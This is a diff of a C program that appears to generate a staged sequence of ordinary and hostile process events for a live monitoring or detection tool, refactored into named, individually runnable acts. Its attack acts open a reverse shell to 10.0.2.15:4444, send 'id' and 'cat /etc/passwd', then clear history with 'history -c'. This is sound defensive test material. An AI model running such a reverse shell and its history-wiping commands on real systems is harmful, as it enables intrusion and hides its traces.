@@ -1,8 +1,12 @@
-/* A timed sequence of ordinary and of hostile acts, for somebody who watches live. */
+/*
+ * A sequence of ordinary and of hostile acts, for somebody who watches live: all of them, timed,
+ * or one at a time, for somebody who waits until each was seen.
+ */
 #include "workload.h"
 
 #include <arpa/inet.h>
 #include <pthread.h>
+#include <semaphore.h>
 #include <signal.h>
 #include <sys/mman.h>
 #include <sys/prctl.h>
@@ -13,11 +17,30 @@
 
 #define PORT 4444
 
-static pid_t visitor_pid, shell_pid;
-static int peer = -1, listener = -1;
+/* What the visitor does; each is one signal. */
+enum visit {
+	THREAD_BEGINS,
+	THREAD_ENDS,
+	OPEN,
+	MAP,
+	UNMAP,
+	MAKE_EXECUTABLE,
+	MAKE_READABLE,
+	EXECUTABLE_AGAIN,
+	CONNECT,
+	DISCONNECT,
+	ZOMBIE,
+	REAP,
+	VISITS,
+};
 
-/* Says what comes next, with the guest's time, at once; gives the watcher time to see it. */
-static void act(const char *what)
+static pid_t visitor_pid, shell_pid, program_pid;
+static int peer = -1, listener = -1, program_input = -1;
+/* Posted when the visitor's thread shall end. */
+static sem_t thread_over;
+
+/* Says what comes next, with the guest's time, at once. */
+static void say(const char *what)
 {
 	struct timespec now;
 	struct tm parts;
@@ -30,15 +53,11 @@ static void act(const char *what)
 	out_flush();
 }
 
-static void rest(unsigned milliseconds)
-{
-	usleep(milliseconds * 1000);
-}
-
 static void *guide(void *unused)
 {
 	prctl(PR_SET_NAME, "tour-thread");
-	usleep(3000000);
+	while (sem_wait(&thread_over) != 0)
+		;
 	return unused;
 }
 
@@ -48,54 +67,62 @@ static void visitor(void *unused)
 	static void *file, *area;
 	static int fd = -1, client = -1, server = -1;
 	pthread_t thread;
-	sigset_t acts;
-	int act_number;
+	sigset_t visits;
+	int signal_number;
+	char byte;
 
 	(void)unused;
-	sigemptyset(&acts);
-	for (int i = 0; i < 11; i++)
-		sigaddset(&acts, SIGRTMIN + i);
-	sigprocmask(SIG_BLOCK, &acts, NULL);
+	sem_init(&thread_over, 0, 0);
+	sigemptyset(&visits);
+	for (int i = 0; i < VISITS; i++)
+		sigaddset(&visits, SIGRTMIN + i);
+	sigprocmask(SIG_BLOCK, &visits, NULL);
 	workload_settled();
-	while (sigwait(&acts, &act_number) == 0) {
-		switch (act_number - SIGRTMIN) {
-		case 0:
+	while (sigwait(&visits, &signal_number) == 0) {
+		switch ((enum visit)(signal_number - SIGRTMIN)) {
+		case THREAD_BEGINS:
 			if (pthread_create(&thread, NULL, guide, NULL) == 0)
 				pthread_detach(thread);
 			break;
-		case 1:
+		case THREAD_ENDS:
+			sem_post(&thread_over);
+			break;
+		case OPEN:
 			fd = open("/tmp/tour-file", O_RDWR | O_CREAT | O_TRUNC, 0644);
 			if (ftruncate(fd, 8192) != 0)
 				return;
 			break;
-		case 2:
+		case MAP:
 			file = mmap(NULL, 8192, PROT_READ, MAP_PRIVATE, fd, 0);
 			break;
-		case 3:
+		case UNMAP:
 			munmap(file, 8192);
 			close(fd);
 			break;
-		case 4:
+		case MAKE_EXECUTABLE:
 			area = mmap(NULL, 16384, PROT_READ | PROT_WRITE | PROT_EXEC,
 				    MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
 			if (area != MAP_FAILED)
 				*(char *)area = 1;
 			break;
-		case 5:
+		case MAKE_READABLE:
 			mprotect(area, 16384, PROT_READ);
 			break;
-		case 10:
+		case EXECUTABLE_AGAIN:
 			mprotect(area, 16384, PROT_READ | PROT_EXEC);
 			break;
-		case 6:
+		case CONNECT:
 			if (!tcp_pair(AF_INET, &client, &server))
 				return;
 			break;
-		case 7:
+		case DISCONNECT:
 			close(client);
+			/* Where both close at once, both wait. */
+			while (read(server, &byte, 1) > 0)
+				;
 			close(server);
 			break;
-		case 8:
+		case ZOMBIE:
 			if (fork() == 0) {
 				prctl(PR_SET_NAME, "tour-zombie");
 				_exit(0);
@@ -108,14 +135,44 @@ static void visitor(void *unused)
 	}
 }
 
-static void tell(int number, const char *what, unsigned milliseconds)
+static const char *begin(void)
 {
-	act(what);
-	kill(visitor_pid, SIGRTMIN + number);
-	rest(milliseconds);
+	visitor_pid = workload_start("tour", visitor, NULL);
+	return visitor_pid < 0 ? "the tour's process died" : NULL;
 }
 
-static void listen_for_shell(void)
+static const char *end(void)
+{
+	workload_end(visitor_pid);
+	return NULL;
+}
+
+/* A program that runs until its input ends. */
+static const char *program(void)
+{
+	int ends[2];
+
+	if (pipe2(ends, O_CLOEXEC) != 0)
+		return strerror(errno);
+	program_pid = fork();
+	if (program_pid == 0) {
+		dup2(ends[0], 0);
+		execl("/bin/bash", "bash", "-c", "cat; echo done > /dev/null", NULL);
+		_exit(127);
+	}
+	close(ends[0]);
+	program_input = ends[1];
+	return NULL;
+}
+
+static const char *program_ends(void)
+{
+	close(program_input);
+	waitpid(program_pid, NULL, 0);
+	return NULL;
+}
+
+static const char *attacker_listens(void)
 {
 	struct sockaddr_in at = { .sin_family = AF_INET, .sin_port = htons(PORT) };
 	int yes = 1;
@@ -125,18 +182,18 @@ static void listen_for_shell(void)
 	setsockopt(listener, SOL_SOCKET, SO_REUSEADDR, &yes, sizeof(yes));
 	if (bind(listener, (void *)&at, sizeof(at)) != 0 || listen(listener, 1) != 0)
 		out_say("note: cannot listen on port %d: %s", PORT, strerror(errno));
+	return NULL;
 }
 
-static void command(const char *text)
+static const char *command(const char *text)
 {
 	if (peer >= 0 && write(peer, text, strlen(text)) < 0)
 		out_say("note: the shell is gone: %s", strerror(errno));
+	return NULL;
 }
 
-static void reverse_shell(void)
+static const char *reverse_shell(void)
 {
-	listen_for_shell();
-	act("a reverse shell: bash -i with its descriptors on 10.0.2.15:4444");
 	shell_pid = fork();
 	if (shell_pid == 0) {
 		setpgid(0, 0);
@@ -144,51 +201,88 @@ static void reverse_shell(void)
 		_exit(127);
 	}
 	peer = accept4(listener, NULL, NULL, SOCK_CLOEXEC);
-	rest(3000);
-	act("the attacker types: id; cat /etc/passwd");
-	command("id\ncat /etc/passwd > /dev/null\n");
-	rest(3000);
-	act("the attacker clears the history: history -c");
-	command("history -c\n");
-	rest(2000);
-	act("the attacker leaves");
+	return NULL;
+}
+
+static const char *attacker_looks(void)
+{
+	return command("id\ncat /etc/passwd > /dev/null\n");
+}
+
+static const char *attacker_clears(void)
+{
+	return command("history -c\n");
+}
+
+static const char *attacker_leaves(void)
+{
 	command("exit\n");
-	rest(1000);
+	/* It writes its history before it ends. */
+	waitpid(shell_pid, NULL, 0);
 	close(peer);
 	close(listener);
-	workload_end(shell_pid);
+	return NULL;
+}
+
+static const struct act {
+	/* `tour WORD` is this one alone. */
+	const char *word;
+	const char *what;
+	/* Either of both. */
+	const char *(*run)(void);
+	enum visit visit;
+	/* How long somebody who watches may look at it, in milliseconds. */
+	unsigned rest;
+} acts[] = {
+	{ "begin", "a process begins", begin, VISITS, 2000 },
+	{ "thread", "a thread begins", NULL, THREAD_BEGINS, 2000 },
+	{ "thread-ends", "the thread ends", NULL, THREAD_ENDS, 1000 },
+	{ "open", "a file is opened: /tmp/tour-file", NULL, OPEN, 2000 },
+	{ "map", "the file is mapped", NULL, MAP, 2000 },
+	{ "unmap", "the file is unmapped and closed", NULL, UNMAP, 2000 },
+	{ "make-executable", "anonymous memory becomes writable and executable", NULL, MAKE_EXECUTABLE,
+	  2500 },
+	{ "make-readable", "that memory loses write and execute", NULL, MAKE_READABLE, 1000 },
+	{ "executable-again", "that memory can be executed again", NULL, EXECUTABLE_AGAIN, 1000 },
+	{ "connect", "a connection is made, 127.0.0.1 to itself", NULL, CONNECT, 2500 },
+	{ "disconnect", "the connection is closed", NULL, DISCONNECT, 2000 },
+	{ "zombie", "a child ends and nobody asks for it: a zombie", NULL, ZOMBIE, 3000 },
+	{ "reap", "the zombie is gone", NULL, REAP, 1500 },
+	{ "program", "a shell command: bash -c", program, VISITS, 2000 },
+	{ "program-ends", "the command ends", program_ends, VISITS, 1000 },
+	{ "listen", "an attacker listens on 10.0.2.15:4444", attacker_listens, VISITS, 500 },
+	{ "reverse-shell", "a reverse shell: bash -i with its descriptors on 10.0.2.15:4444",
+	  reverse_shell, VISITS, 3000 },
+	{ "look", "the attacker types: id; cat /etc/passwd", attacker_looks, VISITS, 3000 },
+	{ "clear", "the attacker clears the history: history -c", attacker_clears, VISITS, 2000 },
+	{ "leave", "the attacker leaves", attacker_leaves, VISITS, 1000 },
+	{ "end", "the process ends", end, VISITS, 1000 },
+};
+
+static const char *perform(const struct act *act)
+{
+	say(act->what);
+	if (act->run)
+		return act->run();
+	kill(visitor_pid, SIGRTMIN + (int)act->visit);
+	return NULL;
 }
 
 const char *tour(const char *arguments)
 {
-	(void)arguments;
-	act("a process begins");
-	visitor_pid = workload_start("tour", visitor, NULL);
-	if (visitor_pid < 0)
-		return "the tour's process died";
-	rest(2000);
-	tell(0, "a thread begins, and ends 3 s later", 2000);
-	tell(1, "a file is opened: /tmp/tour-file", 2000);
-	tell(2, "the file is mapped", 2000);
-	tell(3, "the file is unmapped and closed", 2000);
-	tell(4, "anonymous memory becomes writable and executable", 2500);
-	tell(5, "that memory loses write and execute", 1000);
-	tell(10, "that memory can be executed again", 1000);
-	tell(6, "a connection is made, 127.0.0.1 to itself", 2500);
-	tell(7, "the connection is closed", 2000);
-	tell(8, "a child ends and nobody asks for it: a zombie", 3000);
-	tell(9, "the zombie is gone", 1500);
-	act("a shell command: bash -c");
-	pid_t shell = fork();
-	if (shell == 0) {
-		execl("/bin/bash", "bash", "-c", "sleep 2; echo done > /dev/null", NULL);
-		_exit(127);
+	bool all = arguments[0] == '\0', found = false;
+
+	for (size_t i = 0; i < sizeof(acts) / sizeof(*acts); i++) {
+		const char *wrong;
+
+		if (!all && strcmp(acts[i].word, arguments) != 0)
+			continue;
+		found = true;
+		wrong = perform(&acts[i]);
+		if (wrong)
+			return wrong;
+		if (all)
+			usleep(acts[i].rest * 1000);
 	}
-	waitpid(shell, NULL, 0);
-	rest(1000);
-	reverse_shell();
-	act("the process ends");
-	workload_end(visitor_pid);
-	rest(1000);
-	return NULL;
+	return found ? NULL : "no act of the tour has this name";
 }
